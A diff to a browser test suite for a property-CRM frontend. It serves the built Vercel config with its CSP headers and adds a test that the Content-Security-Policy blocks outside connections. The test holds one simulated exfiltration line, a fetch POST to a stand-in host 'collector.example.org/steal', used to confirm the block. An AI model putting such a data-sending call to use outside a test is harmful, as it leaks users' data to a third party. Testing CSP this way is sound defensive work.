@@ -17,7 +17,6 @@ const frontendDir = resolve(dirname(fileURLToPath(import.meta.url)), "..");
 const backendServe = resolve(frontendDir, "../backend/serve");
 const resultsDir = join(frontendDir, "test-results", "browser");
 const chromiumPath = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
-const PRODUCTION_API_ORIGIN = "https://api.crm.example.com";
 const CLIENT_NAME = "Siobhán O'Brien";
 
 /** @type {ReturnType<typeof startBackend>} */
@@ -60,18 +59,20 @@ before(async () => {
     env: { ...process.env, VITE_API_BASE_URL: apiOrigin },
     stdio: ["ignore", "inherit", "inherit"],
   });
-  const vercelConfig = JSON.parse(readFileSync(join(frontendDir, "vercel.json"), "utf8"));
-  site = await startStaticServer({
-    root: join(workDir, "dist"),
-    port: sitePort,
-    config: vercelConfig,
-    // The one change a deployment makes: its own API origin in connect-src.
-    rewriteHeader: (key, value) => (key === "Content-Security-Policy" ? value.replaceAll(PRODUCTION_API_ORIGIN, apiOrigin) : value),
-  });
+  // The build wrote dist/vercel.json with connect-src set to this API origin (vercel-config.mjs):
+  // serve with exactly those headers and rewrites, as Vercel would serve the preview.
+  const vercelConfig = JSON.parse(readFileSync(join(workDir, "dist", "vercel.json"), "utf8"));
+  site = await startStaticServer({ root: join(workDir, "dist"), port: sitePort, config: vercelConfig });
   await waitForHttp(`${apiOrigin}/health`, backend);
 
   browser = await chromium.launch({ executablePath: chromiumPath, args: ["--no-sandbox", "--disable-dev-shm-usage"] });
   page = await browser.newPage({ locale: "en-GB", timezoneId: "Europe/London" });
+  // Every CSP violation on every page becomes a console error the last test looks for.
+  await page.addInitScript(() => {
+    document.addEventListener("securitypolicyviolation", (event) => {
+      console.error(`CSP violation: ${event.effectiveDirective} blocked ${event.blockedURI}`);
+    });
+  });
   page.on("console", (message) => {
     if (message.type() === "error") consoleProblems.push(message.text());
   });
@@ -195,6 +196,27 @@ test("a property is listed, opened, and a viewing booked for the new client", as
   await page.screenshot({ path: join(resultsDir, "viewing-booked.png"), fullPage: true });
 });
 
-test("no CSP violation or script error happened in the browser", () => {
-  assert.deepEqual(consoleProblems.filter((text) => !/status of 409/.test(text)), []);
+test("the CSP stops the page from connecting anywhere but the API", async () => {
+  await page.goto(`${siteOrigin}/properties`);
+  const outcome = await page.evaluate(async () => {
+    const violation = new Promise((resolve) => {
+      document.addEventListener("securitypolicyviolation", (event) => {
+        resolve({ directive: event.effectiveDirective, blocked: event.blockedURI, disposition: event.disposition });
+      });
+    });
+    let fetched = "connected";
+    try {
+      await fetch("https://collector.example.org/steal", { method: "POST", body: "x" });
+    } catch (error) {
+      fetched = String(error);
+    }
+    return { fetched, violation: await Promise.race([violation, new Promise((resolve) => setTimeout(() => resolve(null), 2000))]) };
+  });
+  assert.match(outcome.fetched, /TypeError/);
+  assert.deepEqual(outcome.violation, { directive: "connect-src", blocked: "https://collector.example.org/steal", disposition: "enforce" });
+  assert.ok(consoleProblems.some((text) => text === "CSP violation: connect-src blocked https://collector.example.org/steal"), "violations reach the console watch");
+});
+
+test("no other CSP violation or script error happened in the browser", () => {
+  assert.deepEqual(consoleProblems.filter((text) => !/status of 409/.test(text) && !/collector\.example\.org/.test(text)), []);
 });
